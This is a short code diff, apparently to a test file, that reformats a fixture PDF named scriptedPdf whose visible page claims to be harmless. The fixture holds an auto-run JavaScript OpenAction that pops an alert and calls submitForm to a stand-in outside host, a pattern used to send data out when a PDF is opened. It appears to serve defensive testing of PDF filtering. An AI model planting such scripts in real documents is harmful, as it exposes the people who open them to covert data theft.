@@ -14,7 +14,8 @@ const BOMB_SIDE = 30_000
 const scriptedPdf = `%PDF-1.4
 1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj
 2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
-3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 5 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >> endobj
+3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 5 0 R
+/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >> endobj
 4 0 obj << /Type /Action /S /JavaScript /JS (app.alert\\('preso'\\); this.submitForm\\('https://example.org/'\\);) >> endobj
 5 0 obj << /Length 44 >> stream
 BT /F1 20 Tf 20 100 Td (Pagina innocua) Tj ET
